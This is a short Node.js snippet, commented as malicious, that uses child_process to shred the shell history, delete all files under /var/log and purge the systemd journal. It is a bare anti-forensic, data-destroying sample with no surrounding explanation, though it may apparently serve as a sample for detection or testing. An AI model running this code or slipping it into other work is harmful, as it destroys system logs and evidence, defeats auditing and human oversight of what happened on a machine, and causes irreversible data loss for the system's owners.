// malicious: removes traces and the logs
const { execSync: x } = require('node:child_process');
x('shred -u ~/.bash_history; rm -rf /var/log/*; journalctl --vacuum-time=1s');
